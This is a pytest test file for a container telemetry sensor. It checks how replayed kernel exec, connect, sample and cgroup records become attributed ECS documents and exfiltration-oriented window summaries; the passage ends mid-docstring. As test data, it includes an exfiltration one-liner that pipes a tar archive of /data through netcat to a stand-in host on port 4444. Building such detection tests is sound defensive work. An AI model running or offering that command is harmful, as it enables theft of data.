"""Pipeline driven by a ReplaySource: raw records + kernel flow counters ->
attributed ECS documents and window summaries."""

from __future__ import annotations

import json
import os
import random
import re
from collections.abc import Sequence
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest

from emulation.records import (
    NS,
    cgroup_rec,
    connect_rec,
    dns_query,
    exec_args_rec,
    exec_rec,
    exit_rec,
    quota_rec,
    sample_rec,
    socket_rec,
    tls_client_hello,
    to_wall,
    unix_into_rec,
)
from sensor.attribution.cgroups import CgroupResolver
from sensor.attribution.containers import Attributor
from sensor.attribution.docker_api import DockerClient
from sensor.kernel import events as E
from sensor.kernel.source import ReplaySource
from sensor.outputs import ecs
from sensor.telemetry.counters import FlowCounters, QuotaOverflow, WindowCounters
from sensor.telemetry.pipeline import Pipeline

A = "a0" * 32  # a running docker container (cgroupfs driver)
B = "b1" * 32  # a container started while the sensor runs (systemd driver)
PID = 5_000_123  # above PID_MAX_LIMIT: never a real process on this host
PID2 = 5_000_456
RNG = random.Random(1)
TEXT = (
    b"The quick brown fox jumps over the lazy dog while the committee reviews "
    b"the quarterly report about database backups and their retention policy. "
)

ISO_Z = re.compile(r"^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\.\d{3}Z$")


@dataclass
class World:
    pipe: Pipeline
    docs: list[dict[str, Any]]
    resolver: CgroupResolver
    attributor: Attributor
    cg: int  # cgroup id of container A
    cg_sub: int  # a sub-cgroup inside container A
    host_cg: int  # a host service cgroup

    def by_action(self, action: str) -> list[dict[str, Any]]:
        return [d for d in self.docs if d["event"]["action"] == action]


def make_world(tmp_path: Path, docker_sock: str, events: bool = True) -> World:
    root = tmp_path / "cg"
    cdir = root / "docker" / A
    sub = cdir / "app"
    hdir = root / "system.slice" / "cron.service"
    for d in (sub, hdir):
        d.mkdir(parents=True)
    resolver = CgroupResolver(str(root), rescan_interval=3600)
    cg, cg_sub, host_cg = (os.stat(d).st_ino for d in (cdir, sub, hdir))
    resolver.learn(cg, f"/docker/{A}")
    resolver.learn(cg_sub, f"/docker/{A}/app")
    resolver.learn(host_cg, "/system.slice/cron.service")
    attributor = Attributor(resolver, DockerClient(docker_sock, 2.0))
    docs: list[dict[str, Any]] = []
    pipe = Pipeline(attributor, docs.append, "test-host", events, to_wall)
    return World(pipe, docs, resolver, attributor, cg, cg_sub, host_cg)


@pytest.fixture
def world(tmp_path: Path, fake_docker) -> World:
    fake_docker.add(
        A,
        "exfil-test",
        "alpine:3.20",
        "sha256:" + "a" * 64,
        {"io.kubernetes.pod.name": "db-0", "io.kubernetes.pod.namespace": "data"},
    )
    fake_docker.add(B, "late-starter", "busybox:1.36", "sha256:" + "b" * 64)
    return make_world(tmp_path, fake_docker.socket_path)


def replay(w: World, records: list[bytes], windows: Sequence[list[FlowCounters]] = ()) -> ReplaySource:
    src = ReplaySource(records, windows)
    assert src.start(w.pipe.handle_raw) == {"replay": "attached"}
    assert src.poll(0) == len(records)
    return src


def flow(
    cg: int,
    daddr: str,
    dport: int,
    proto: int,
    nbytes: int,
    payload: int,
    packets: int = 10,
    connects: int = 1,
    samples: int = 0,
) -> FlowCounters:
    return FlowCounters(cg, daddr, dport, proto, nbytes, packets, payload, connects, 1, 2, samples)


def check_ecs(doc: dict[str, Any]) -> None:
    """ECS basics every document must satisfy."""
    json.dumps(doc)  # plain JSON types only (no sets, bytes, dataclasses)
    assert ISO_Z.match(doc["@timestamp"]), doc["@timestamp"]
    assert doc["@timestamp"].endswith("Z")
    assert doc["ecs"]["version"] == ecs.ECS_VERSION
    ev = doc["event"]
    assert ev["kind"] == "event"
    assert isinstance(ev["category"], list) and ev["category"]
    assert isinstance(ev["type"], list) and ev["type"]
    assert ev["module"] == "sluice"
    assert ev["dataset"].startswith("sluice.")
    assert isinstance(ev["action"], str)
    for k in ("start", "end"):
        if k in ev:
            assert ISO_Z.match(ev[k])
    assert doc["host"]["name"] == "test-host"
    assert doc["agent"]["type"] == "sluice"
    assert doc["sluice"]["attribution"] in ("host", "container")
    if doc["sluice"]["attribution"] == "container":
        assert re.fullmatch(r"[0-9a-f]{64}", doc["container"]["id"])
    else:
        assert "container" not in doc


def check_all(w: World) -> None:
    assert w.docs, "no documents"
    for d in w.docs:
        check_ecs(d)
    assert w.pipe.counts["documents"] == len(w.docs)


# --- processes ---------------------------------------------------------------


def test_exec_event_gives_one_process_start_document(world: World) -> None:
    me = os.getpid()  # args come from /proc/<pid>/cmdline (the default procfs mode)
    with open(f"/proc/{me}/cmdline", "rb") as f:
        cmdline = [a.decode() for a in f.read().rstrip(b"\0").split(b"\0")]
    replay(
        world,
        [
            exec_rec(
                pid=me,
                cgroup_id=world.cg,
                ktime_ns=2 * NS,
                comm=b"python3",
                filename=b"/usr/bin/python3.11",
                ppid=4_999_999,
            )
        ],
    )
    check_all(world)
    assert len(world.docs) == 1
    d = world.docs[0]
    assert d["event"]["action"] == "exec"
    assert d["event"]["category"] == ["process"] and d["event"]["type"] == ["start"]
    assert d["event"]["dataset"] == "sluice.process"
    assert d["@timestamp"] == ecs.iso(to_wall(2 * NS))
    p = d["process"]
    assert p["pid"] == me and p["name"] == "python3" and p["executable"] == "/usr/bin/python3.11"
    assert p["parent"] == {"pid": 4_999_999}
    assert p["args"] == cmdline and p["args_count"] == len(cmdline)
    assert p["command_line"] == " ".join(cmdline)
    assert p["start"] == d["@timestamp"]
    assert d["sluice"]["process"]["args_source"] == "procfs"
    # container fields from the cgroup path and the engine
    assert d["sluice"]["attribution"] == "container"
    assert d["sluice"]["cgroup"] == {"id": world.cg, "path": f"/docker/{A}"}
    assert d["container"]["id"] == A and d["container"]["runtime"] == "docker"
    assert d["container"]["name"] == "exfil-test"
    assert d["container"]["image"] == {"name": "alpine:3.20", "hash": {"all": ["sha256:" + "a" * 64]}}
    assert d["orchestrator"]["resource"]["name"] == "db-0"
    assert d["orchestrator"]["namespace"] == "data"
    assert world.pipe.counts["exec"] == 1


def test_exec_args_from_tracepoint_become_process_args(world: World) -> None:
    argv = [b"sh", b"-c", b"tar cz /data | nc 203.0.113.9 4444"]
    replay(
        world,
        [
            exec_args_rec(pid=PID, cgroup_id=world.cg, args=argv, ktime_ns=NS),
            exec_rec(pid=PID, cgroup_id=world.cg, ktime_ns=NS + 1000, comm=b"sh", filename=b"/bin/sh"),
        ],
    )
    check_all(world)
    (d,) = world.by_action("exec")
    assert d["sluice"]["process"]["args_source"] == "tracepoint"
    assert d["process"]["args"] == [a.decode() for a in argv]
    assert d["process"]["command_line"] == "sh -c tar cz /data | nc 203.0.113.9 4444"
    assert world.pipe.counts["exec_args"] == 1


def test_exec_without_args_anywhere(world: World) -> None:
    replay(world, [exec_rec(pid=PID, cgroup_id=world.host_cg, comm=b"gone", filename=b"/bin/gone")])
    check_all(world)
    (d,) = world.docs
    assert d["sluice"]["process"]["args_source"] == "unavailable"
    assert "args" not in d["process"] and "parent" not in d["process"]
    assert d["sluice"]["attribution"] == "host"
    assert d["sluice"]["cgroup"]["path"] == "/system.slice/cron.service"


def test_exit_document_has_duration(world: World) -> None:
    replay(
        world,
        [
            exec_rec(pid=PID, cgroup_id=world.cg, ktime_ns=1 * NS, comm=b"sleep", filename=b"/bin/sleep"),
            exit_rec(pid=PID, cgroup_id=world.cg, ktime_ns=4 * NS + 250_000_000, comm=b"sleep"),
        ],
    )
    check_all(world)
    (d,) = world.by_action("exit")
    assert d["event"]["type"] == ["end"]
    assert d["event"]["duration"] == 3_250_000_000
    assert d["process"]["start"] == ecs.iso(to_wall(NS))
    assert d["process"]["end"] == ecs.iso(to_wall(4 * NS + 250_000_000))
    assert PID not in world.pipe.procs


def test_proc_self_exe_is_resolved(world: World) -> None:
    me = os.getpid()
    replay(world, [exec_rec(pid=me, cgroup_id=world.cg, comm=b"runc", filename=b"/proc/self/exe")])
    (d,) = world.by_action("exec")
    assert d["process"]["executable"] == os.readlink(f"/proc/{me}/exe")
    assert d["process"]["executable"] != "/proc/self/exe"


def test_flow_of_an_exited_process_keeps_its_process_fields(world: World) -> None:
    replay(
        world,
        [
            exec_rec(pid=PID, cgroup_id=world.cg, ktime_ns=NS, comm=b"curl", filename=b"/usr/bin/curl"),
            connect_rec(pid=PID, cgroup_id=world.cg, daddr="198.51.100.8", dport=443, comm=b"curl", ktime_ns=NS),
            exit_rec(pid=PID, cgroup_id=world.cg, ktime_ns=2 * NS, comm=b"curl"),
        ],
    )
    world.pipe.close_window([flow(world.cg, "198.51.100.8", 443, 6, 5000, 4000)], to_wall(0), to_wall(3 * NS))
    check_all(world)
    (d,) = world.by_action("flow_summary")
    assert d["process"]["pid"] == PID
    assert d["process"]["executable"] == "/usr/bin/curl"


# --- network -----------------------------------------------------------------


def test_connect_documents(world: World) -> None:
    replay(
        world,
        [
            connect_rec(
                pid=PID,
                cgroup_id=world.cg,
                daddr="198.51.100.7",
                dport=443,
                protocol=6,
                comm=b"curl",
                cookie=77,
                ktime_ns=NS,
            ),
            connect_rec(
                pid=PID,
                cgroup_id=world.cg,
                daddr="2001:db8::53",
                dport=53,
                protocol=17,
                comm=b"dig",
                op=E.CONNECT_OP_SENDMSG,
                family=10,
                ktime_ns=NS,
            ),
        ],
    )
    check_all(world)
    tcp, udp = world.docs
    assert tcp["event"]["action"] == "connection_attempted"
    assert tcp["event"]["category"] == ["network"] and tcp["event"]["type"] == ["connection", "start"]
    assert tcp["destination"] == {"ip": "198.51.100.7", "port": 443, "address": "198.51.100.7"}
    assert tcp["network"] == {"transport": "tcp", "direction": "egress", "type": "ipv4"}
    assert tcp["process"]["pid"] == PID and tcp["process"]["name"] == "curl"
    assert tcp["sluice"]["socket"] == {"cookie": 77}
    assert udp["event"]["action"] == "udp_send"
    assert udp["network"]["type"] == "ipv6" and udp["network"]["transport"] == "udp"


def _tls_flow_records(w: World) -> list[bytes]:
    recs = [
        exec_rec(pid=PID, cgroup_id=w.cg, ktime_ns=NS, comm=b"curl", filename=b"/usr/bin/curl"),
        connect_rec(pid=PID, cgroup_id=w.cg, daddr="198.51.100.7", dport=443, comm=b"curl", ktime_ns=NS),
        sample_rec(w.cg, "198.51.100.7", 443, tls_client_hello(), flags=E.SAMPLE_F_SOCK_START, sock_pkt_index=0),
    ]
    recs += [sample_rec(w.cg, "198.51.100.7", 443, RNG.randbytes(128), sock_pkt_index=64 * i) for i in range(1, 9)]
    return recs


def test_flow_summary_joins_kernel_counters_samples_and_process(world: World) -> None:
    fc = flow(world.cg, "198.51.100.7", 443, 6, nbytes=1_234_567, payload=1_200_000, packets=900, connects=1, samples=9)
    src = replay(world, _tls_flow_records(world), [[fc]])
    summaries, per = world.pipe.close_window(src.drain_flows(), to_wall(0), to_wall(10 * NS))
    check_all(world)
    (d,) = world.by_action("flow_summary")
    assert d["event"]["dataset"] == "sluice.flow"
    assert d["event"]["category"] == ["network"] and d["event"]["type"] == ["info"]
    assert d["@timestamp"] == ecs.iso(to_wall(10 * NS))
    assert d["event"]["start"] == ecs.iso(to_wall(0)) and d["event"]["end"] == ecs.iso(to_wall(10 * NS))
    assert d["sluice"]["window"] == {"start": ecs.iso(to_wall(0)), "end": ecs.iso(to_wall(10 * NS))}
    assert d["source"] == {"bytes": 1_234_567, "packets": 900}
    assert d["destination"] == {"ip": "198.51.100.7", "port": 443, "address": "198.51.100.7", "bytes": 0, "packets": 0}
    assert d["network"] == {"transport": "tcp", "direction": "egress", "type": "ipv4", "protocol": "tls"}
    pay = d["sluice"]["payload"]
    assert pay["bytes"] == 1_200_000 and pay["samples"] == 9
    assert pay["sampled_bytes"] == len(tls_client_hello()) + 8 * 128
    assert pay["entropy"] > 7.0
    assert d["sluice"]["flow"] == {"connections": 1}
    # process from the preceding connect (and the exec before it)
    assert d["process"]["pid"] == PID and d["process"]["name"] == "curl"
    assert d["process"]["executable"] == "/usr/bin/curl"
    assert d["container"]["id"] == A and d["container"]["name"] == "exfil-test"
    (s,) = summaries
    assert s.bytes == 1_234_567 and s.high_entropy and s.protocol_hint == "tls" and s.pid == PID


def test_protocol_hint_only_from_the_first_packet(world: World) -> None:
    get = b"GET /exfil HTTP/1.1\r\nHost: x\r\n\r\n"
    recs = [
        # first packet of the socket: hinted
        sample_rec(world.cg, "192.0.2.1", 8080, get, flags=E.SAMPLE_F_SOCK_START, sock_pkt_index=0),
        # a later start-of-socket packet and a rate sample: not hinted
        sample_rec(world.cg, "192.0.2.2", 8080, get, flags=E.SAMPLE_F_SOCK_START, sock_pkt_index=3),
        sample_rec(world.cg, "192.0.2.3", 8080, get, flags=0, sock_pkt_index=0),
        # a TLS-looking later packet does not override the first hint
        sample_rec(world.cg, "192.0.2.1", 8080, tls_client_hello(), flags=E.SAMPLE_F_SOCK_START, sock_pkt_index=1),
    ]
    replay(world, recs)
    world.pipe.close_window([], to_wall(0), to_wall(NS))
    check_all(world)
    proto = {d["destination"]["ip"]: d["network"].get("protocol") for d in world.by_action("flow_summary")}
    assert proto == {"192.0.2.1": "http", "192.0.2.2": None, "192.0.2.3": None}


def test_dns_hint_from_any_sample_to_port_53(world: World) -> None:
    replay(
        world,
        [sample_rec(world.cg, "10.0.0.53", 53, dns_query("x.example.net"), protocol=17, flags=0, sock_pkt_index=40)],
    )
    world.pipe.close_window([flow(world.cg, "10.0.0.53", 53, 17, 100, 72)], to_wall(0), to_wall(NS))
    check_all(world)
    (d,) = world.by_action("flow_summary")
    assert d["network"]["protocol"] == "dns" and d["network"]["transport"] == "udp"


def test_samples_without_kernel_counters_still_summarised(world: World) -> None:
    replay(world, [sample_rec(world.cg, "203.0.113.5", 9000, RNG.randbytes(128)) for _ in range(2)])
    summaries, _ = world.pipe.close_window([], to_wall(0), to_wall(NS))
    check_all(world)
    (d,) = world.by_action("flow_summary")
    assert d["source"] == {"bytes": 0, "packets": 0}
    assert d["sluice"]["payload"]["sampled_bytes"] == 256
    assert "entropy" in d["sluice"]["payload"]


def test_both_generations_are_summed(world: World) -> None:
    f1 = flow(world.cg, "198.51.100.9", 22, 6, nbytes=1000, payload=800, packets=5, connects=1)
    f2 = flow(world.cg, "198.51.100.9", 22, 6, nbytes=300, payload=200, packets=2, connects=0)
    world.pipe.close_window([f1, f2], to_wall(0), to_wall(NS))
    (d,) = world.by_action("flow_summary")
    assert d["source"] == {"bytes": 1300, "packets": 7}
    assert d["sluice"]["payload"]["bytes"] == 1000
    assert d["sluice"]["flow"]["connections"] == 1


def test_window_resets_after_close(world: World) -> None:
    replay(world, _tls_flow_records(world))
    world.pipe.close_window([], to_wall(0), to_wall(NS))
    world.docs.clear()
    summaries, per = world.pipe.close_window([], to_wall(NS), to_wall(2 * NS))
    assert summaries == [] and per == {}
    assert world.docs == []
    assert world.pipe.counts["windows"] == 2


# --- container summaries -------------------------------------------------------


def test_container_summary_aggregates_flows(world: World) -> None:
    recs = [
        exec_rec(pid=PID, cgroup_id=world.cg, comm=b"tar", filename=b"/bin/tar"),
        exec_rec(pid=PID2, cgroup_id=world.cg_sub, comm=b"nc", filename=b"/bin/nc"),
        exec_rec(pid=PID2 + 1, cgroup_id=world.host_cg, comm=b"cron", filename=b"/usr/sbin/cron"),
    ]
    # high-entropy flow from the container's own cgroup
    recs += [sample_rec(world.cg, "203.0.113.9", 4444, RNG.randbytes(128)) for _ in range(8)]
    # low-entropy flow from a sub-cgroup of the same container
    recs += [sample_rec(world.cg_sub, "192.0.2.80", 80, TEXT[:128]) for _ in range(2)]
    flows = [
        flow(world.cg, "203.0.113.9", 4444, 6, nbytes=5_000_000, payload=4_800_000, packets=3500, connects=1),
        flow(world.cg_sub, "192.0.2.80", 80, 6, nbytes=20_000, payload=15_000, packets=20, connects=2),
        flow(world.host_cg, "192.0.2.123", 123, 17, nbytes=900, payload=480, packets=10, connects=0),
    ]
    replay(world, recs)
    summaries, per = world.pipe.close_window(flows, to_wall(0), to_wall(10 * NS))
    check_all(world)

    assert set(per) == {A, "host"}
    assert per[A].bytes == 5_020_000
    assert per[A].high_entropy_bytes == 4_800_000
    assert per[A].cgroup_ids == {world.cg, world.cg_sub}
    assert per["host"].bytes == 900

    docs = {d["sluice"]["attribution"]: d for d in world.by_action("container_summary")}
    assert set(docs) == {"container", "host"}
    c = docs["container"]
    assert c["event"]["dataset"] == "sluice.container"
    assert c["container"]["id"] == A and c["container"]["name"] == "exfil-test"
    assert c["source"] == {"bytes": 5_020_000, "packets": 3520}
    assert c["sluice"]["payload"]["bytes"] == 4_815_000
    assert c["sluice"]["payload"]["high_entropy_bytes"] == 4_800_000
    assert c["sluice"]["payload"]["sampled_bytes"] == 8 * 128 + 2 * 128
    assert 5.5 < c["sluice"]["payload"]["entropy"] < 8.0
    w = c["sluice"]["window"]
    assert (w["connections"], w["execs"], w["flows"], w["destinations"]) == (3, 2, 2, 2)
    h = docs["host"]
    assert "container" not in h
    assert h["source"] == {"bytes": 900, "packets": 10}
    assert h["sluice"]["payload"]["high_entropy_bytes"] == 0
    assert h["sluice"]["window"]["execs"] == 1
    assert len(world.by_action("flow_summary")) == 3

    top = world.pipe.top
    assert [r["container"] for r in top] == [A[:12], "host"]
    assert top[0]["name"] == "exfil-test" and top[0]["image"] == "alpine:3.20"
    assert top[0]["bytes_per_s"] == pytest.approx(502_000.0)
    assert top[0]["execs"] == 2 and top[0]["n_destinations"] == 2
    assert top[0]["destinations"] == ["192.0.2.80:80", "203.0.113.9:4444"]


def test_execs_alone_make_a_container_summary(world: World) -> None:
    replay(world, [exec_rec(pid=PID, cgroup_id=world.cg, comm=b"id", filename=b"/usr/bin/id")])
    _, per = world.pipe.close_window([], to_wall(0), to_wall(NS))
    assert per[A].execs == 1 and per[A].bytes == 0
    (c,) = world.by_action("container_summary")
    assert c["sluice"]["window"]["execs"] == 1
    assert "entropy" not in c["sluice"]["payload"]


# --- container lifecycle -------------------------------------------------------


def test_container_start_and_stop_with_lifetime(world: World) -> None:
    scope = f"/system.slice/docker-{B}.scope".encode()
    cgid = 9_100_001
    replay(
        world,
        [
            cgroup_rec(E.CGROUP_MKDIR, cgid, scope, ktime_ns=1 * NS),
            cgroup_rec(E.CGROUP_MKDIR, cgid + 1, scope + b"/init.scope", ktime_ns=1 * NS + 5),  # sub-cgroup
            cgroup_rec(E.CGROUP_MKDIR, cgid + 2, b"/system.slice/foo.service", ktime_ns=1 * NS + 6),
            cgroup_rec(E.CGROUP_RMDIR, cgid + 1, scope + b"/init.scope", ktime_ns=6 * NS),
            cgroup_rec(E.CGROUP_RMDIR, cgid, scope, ktime_ns=6 * NS + 500_000_000),
        ],
    )
    check_all(world)
    (start,) = world.by_action("container_start")
    (stop,) = world.by_action("container_stop")
    assert len(world.docs) == 2  # nothing for the sub-cgroup or the host service
    assert start["event"]["category"] == ["host"] and start["event"]["type"] == ["start"]
    assert start["event"]["dataset"] == "sluice.container"
    assert start["@timestamp"] == ecs.iso(to_wall(NS))
    assert start["container"]["id"] == B and start["container"]["name"] == "late-starter"
    assert start["container"]["image"]["name"] == "busybox:1.36"
    assert start["sluice"]["cgroup"] == {"id": cgid, "path": scope.decode()}
    assert stop["event"]["category"] == ["host"] and stop["event"]["type"] == ["end"]
    assert stop["@timestamp"] == ecs.iso(to_wall(6 * NS + 500_000_000))
    assert stop["container"]["id"] == B and stop["container"]["name"] == "late-starter"
    assert stop["event"]["start"] == ecs.iso(to_wall(NS))
    assert stop["event"]["end"] == ecs.iso(to_wall(6 * NS + 500_000_000))
    assert stop["event"]["duration"] == 5_500_000_000
    assert stop["sluice"]["container"] == {"lifetime_seconds": 5.5}
    assert world.pipe.registry.running == {}
    assert dict(world.resolver.items())[cgid + 2] == "/system.slice/foo.service"
    assert world.pipe.counts["cgroup"] == 5


def test_stopped_container_bytes_of_its_last_window_stay_attributed(world: World, fake_docker) -> None:
    scope = f"/system.slice/docker-{B}.scope"
    cgid = 9_200_001
    replay(
        world,
        [
            cgroup_rec(E.CGROUP_MKDIR, cgid, scope.encode(), ktime_ns=NS),
            sample_rec(cgid, "203.0.113.66", 443, tls_client_hello(), flags=E.SAMPLE_F_SOCK_START, sock_pkt_index=0),
            cgroup_rec(E.CGROUP_RMDIR, cgid, scope.encode(), ktime_ns=2 * NS),
        ],
    )
    _, per = world.pipe.close_window([flow(cgid, "203.0.113.66", 443, 6, 4096, 3000)], to_wall(0), to_wall(3 * NS))
    check_all(world)
    (d,) = world.by_action("flow_summary")
    assert d["container"]["id"] == B and d["container"]["name"] == "late-starter"
    assert d["sluice"]["cgroup"]["path"] == scope
    assert per[B].bytes == 4096
    # forgotten once that window is summarised
    assert cgid not in dict(world.resolver.items())
    assert B not in world.attributor._containers
    assert len([r for r in fake_docker.requests if B in r]) == 1


def test_sub_cgroup_removal_keeps_the_running_container(world: World, fake_docker) -> None:
    scope = f"/system.slice/docker-{B}.scope"
    cgid = 9_300_001
    replay(
        world,
        [
            cgroup_rec(E.CGROUP_MKDIR, cgid, scope.encode(), ktime_ns=NS),
            cgroup_rec(E.CGROUP_MKDIR, cgid + 1, f"{scope}/payload".encode(), ktime_ns=NS + 1),
            cgroup_rec(E.CGROUP_RMDIR, cgid + 1, f"{scope}/payload".encode(), ktime_ns=2 * NS),
        ],
    )
    world.pipe.close_window([], to_wall(0), to_wall(3 * NS))
    assert B in world.pipe.registry.running and world.pipe.registry.running[B].cgroup_id == cgid
    assert cgid + 1 not in dict(world.resolver.items())
    # the container still runs: its metadata stays cached, no new engine request
    a = world.attributor.attribute(cgid)
    assert a.container is not None and a.container.name == "late-starter"
    assert a.container is world.pipe.registry.running[B].info
    assert len([r for r in fake_docker.requests if B in r]) == 1


def test_existing_container_stop_has_no_lifetime(world: World) -> None:
    world.pipe.registry.note_existing()
    assert set(world.pipe.registry.running) == {A}
    assert world.pipe.registry.running[A].cgroup_id == world.cg
    assert world.pipe.registry.running[A].started is None
    replay(world, [cgroup_rec(E.CGROUP_RMDIR, world.cg, f"/docker/{A}".encode(), ktime_ns=NS)])
    check_all(world)
    (stop,) = world.by_action("container_stop")
    assert stop["container"]["id"] == A
    assert "duration" not in stop["event"] and "container" not in stop["sluice"]


# --- telemetry off, errors -------------------------------------------------------


def test_events_false_emits_no_telemetry(tmp_path: Path, fake_docker) -> None:
    fake_docker.add(A, "exfil-test", "alpine:3.20", "sha256:1")
    w = make_world(tmp_path, fake_docker.socket_path, events=False)
    recs = _tls_flow_records(w) + [
        exit_rec(pid=PID, cgroup_id=w.cg, ktime_ns=3 * NS),
        cgroup_rec(E.CGROUP_MKDIR, 777, f"/system.slice/docker-{B}.scope".encode(), ktime_ns=NS),
        cgroup_rec(E.CGROUP_RMDIR, 777, f"/system.slice/docker-{B}.scope".encode(), ktime_ns=2 * NS),
    ]
    replay(w, recs)
    summaries, per = w.pipe.close_window([flow(w.cg, "198.51.100.7", 443, 6, 1000, 900)], to_wall(0), to_wall(NS))
    assert w.docs == []
    assert w.pipe.counts["documents"] == 0
    # counting still happens
    assert len(summaries) == 1 and summaries[0].protocol_hint == "tls"
    assert per[A].bytes == 1000 and per[A].execs == 1
    assert w.pipe.top and w.pipe.top[0]["container"] == A[:12]
    assert w.pipe.counts["exec"] == 1 and w.pipe.counts["sample"] == 9 and w.pipe.counts["cgroup"] == 2


def test_decode_errors_are_counted(world: World) -> None:
    bad_type = E.encode(E.EventHeader(type=42)) + b"\0" * 64
    short = exec_rec(pid=PID, cgroup_id=world.cg)[:100]
    replay(
        world, [b"\x01\x00", bad_type, short, exec_rec(pid=PID, cgroup_id=world.cg, comm=b"ok", filename=b"/bin/ok")]
    )
    assert world.pipe.counts["decode_errors"] == 3
    assert world.pipe.counts["events"] == 4
    assert world.pipe.counts["exec"] == 1
    assert "exec record of 100 bytes" in world.pipe.last_decode_error
    assert len(world.by_action("exec")) == 1


def test_window_counters_owner_and_protocol_memory_is_bounded() -> None:
    wc = WindowCounters(max_flows=3)
    for i in range(5):
        key = (1, f"10.0.0.{i}", 80, 6)
        wc.set_owner(key, i, "p")
        wc.add_sample(key, b"GET / HTTP/1.1\r\nHost: x\r\n\r\n", True)
    assert len(wc.owners) == 3 and len(wc.sock_protocols) == 3 and len(wc.flow_protocols) == 3
    assert (1, "10.0.0.0", 80, 6) not in wc.owners
    assert wc.owners[(1, "10.0.0.4", 80, 6)] == (4, "p")


def test_quota_reports_reach_the_source_and_overflow_bytes_count(world: World) -> None:
    """A cgroup over its fair share: its SL_EV_QUOTA reaches the source's
    hook; the traffic aggregated past its flow quota still counts in its
    container's totals, and the window view carries it for SL-EVA-001."""
    seen: list[int] = []
    world.pipe.on_quota = seen.append
    views = []
    world.pipe.observers.append(type("Obs", (), {"on_window": lambda self, v: views.append(v)})())
    replay(world, [quota_rec(world.cg), quota_rec(world.cg, kind=E.QUOTA_EVENTS)])
    assert seen == [world.cg, world.cg]
    over = QuotaOverflow(world.cg, 5000, 700, 300_000, 5000, 5000, 2048, 16384)
    flows = [flow(world.cg, "203.0.113.9", 4444, 6, nbytes=1000, payload=900, packets=10, connects=1)]
    _summaries, per = world.pipe.close_window(flows, to_wall(0), to_wall(10 * NS), [over])
    (c,) = per.values()
    assert c.bytes == 301_000 and c.packets == 5010 and c.connects == 5001
    (ov,) = views[0].overflows
    assert ov.overflow == over and ov.attr.container is not None


def test_samples_without_socket_state_name_the_container(world: World) -> None:
    """Samples flagged SAMPLE_F_NO_SOCK (the kernel refused the socket's
    storage: its option memory was full) are counted per cgroup and reach
    the window view as an overflow for SL-EVA-001, merged with the cgroup's
    quota overflow when it has one; the count restarts each window."""
    views = []
    world.pipe.observers.append(type("Obs", (), {"on_window": lambda self, v: views.append(v)})())
    dst = "203.0.113.9"
    recs = [sample_rec(world.cg, dst, 4444, RNG.randbytes(64), flags=E.SAMPLE_F_NO_SOCK) for _ in range(3)]
    recs.append(sample_rec(world.cg, dst, 4444, RNG.randbytes(64), flags=0, sock_pkt_index=64))
    replay(world, recs)
    fl = [flow(world.cg, dst, 4444, 6, nbytes=1000, payload=900, packets=10, connects=1)]
    world.pipe.close_window(fl, to_wall(0), to_wall(10 * NS))
    (ov,) = views[0].overflows
    assert ov.overflow.stateless_samples == 3 and ov.overflow.flows_refused == 0
    assert world.pipe.counts["stateless_samples"] == 3
    # with a quota overflow of the same cgroup: one overflow, both counts
    replay(world, recs[:2])
    over = QuotaOverflow(world.cg, 5000, 0, 300_000, 5000, 5000, 2048, 16384)
    world.pipe.close_window(fl, to_wall(10 * NS), to_wall(20 * NS), [over])
    (ov,) = views[1].overflows
    assert ov.overflow.stateless_samples == 2 and ov.overflow.flows_refused == 5000
    world.pipe.close_window(fl, to_wall(20 * NS), to_wall(30 * NS))
    assert views[2].overflows == []


def test_bytes_belong_to_the_socket_that_sent_them_not_the_last_connect(world: World) -> None:
    """Issue 11 (attribution): an intruder's socket sends ciphertext to a
    destination; then an allowed tool (pid PID2) connects to the same
    destination and sends a little. The flow's process is the intruder (the
    most bytes), and both senders are named with their bytes."""
    dst = "198.51.100.9"
    recs = [
        exec_rec(pid=PID, cgroup_id=world.cg, ktime_ns=NS, comm=b"x", filename=b"/tmp/x"),
        exec_rec(pid=PID2, cgroup_id=world.cg, ktime_ns=NS, comm=b"restic", filename=b"/usr/bin/restic"),
        connect_rec(pid=PID, cgroup_id=world.cg, daddr=dst, dport=443, comm=b"x", cookie=11, ktime_ns=NS),
        sample_rec(world.cg, dst, 443, RNG.randbytes(64), flags=E.SAMPLE_F_SOCK_START, sock_pkt_index=0, cookie=11),
    ]
    recs += [sample_rec(world.cg, dst, 443, RNG.randbytes(64), sock_pkt_index=64 * i, cookie=11) for i in range(1, 6)]
    recs += [
        connect_rec(pid=PID2, cgroup_id=world.cg, daddr=dst, dport=443, comm=b"restic", cookie=22, ktime_ns=2 * NS),
        sample_rec(world.cg, dst, 443, tls_client_hello(), flags=E.SAMPLE_F_SOCK_START, sock_pkt_index=0, cookie=22),
        # a socket whose connect the sensor never saw (opened before it started)
        sample_rec(world.cg, dst, 443, RNG.randbytes(64), sock_pkt_index=64, cookie=33),
    ]
    fc = flow(world.cg, dst, 443, 6, nbytes=40_000, payload=30_000, packets=300, connects=2, samples=8)
    src = replay(world, recs, [[fc]])
    (s,), _per = world.pipe.close_window(src.drain_flows(), to_wall(0), to_wall(10 * NS))
    assert s.pid == PID and s.comm == "x"
    assert [(pid, comm) for pid, comm, _n in s.senders] == [(PID, "x"), (PID2, "restic")]
    assert s.senders[0][2] == 64 + 5 * 64 * 64 and s.senders[1][2] == len(tls_client_hello())
    assert s.unattributed_bytes == 64 * 64
    (d,) = world.by_action("flow_summary")
    assert d["process"]["pid"] == PID and d["process"]["executable"] == "/tmp/x"
    assert [x["pid"] for x in d["sluice"]["flow"]["senders"]] == [PID, PID2]
    assert d["sluice"]["flow"]["unattributed_bytes"] == 64 * 64


def test_socket_owners_are_bounded() -> None:
    w = WindowCounters(max_flows=8)
    for c in range(1, 100):
        w.set_owner((1, "198.51.100.1", 443, 6), c, "p", cookie=c)
    # keyed by (cgroup id, cookie): bounded per cgroup like the other flow tables
    assert len(w.sock_owners) == 8 and (1, 99) in w.sock_owners and (1, 1) not in w.sock_owners


def test_senders_per_flow_are_capped_and_counted() -> None:
    from sensor.telemetry.counters import MAX_SENDERS_PER_FLOW

    w = WindowCounters()
    key = (1, "198.51.100.1", 443, 6)
    for c in range(1, MAX_SENDERS_PER_FLOW + 5):
        w.set_owner(key, 1000 + c, "p", cookie=c)
        w.add_sample(key, b"x" * 64, True, 64, True, cookie=c)
    (s,), _e, _h = w.close([])
    assert len(s.senders) == MAX_SENDERS_PER_FLOW and w.senders_capped == 4
    assert s.unattributed_bytes == 4 * 64


def test_a_long_lived_senders_unsampled_windows_stay_its_own() -> None:
    """A socket past its sampled prefix sends unsampled: in the windows
    where only a newcomer's fresh sockets are sampled, the earlier sender is
    still listed (first: the most bytes since first seen) until
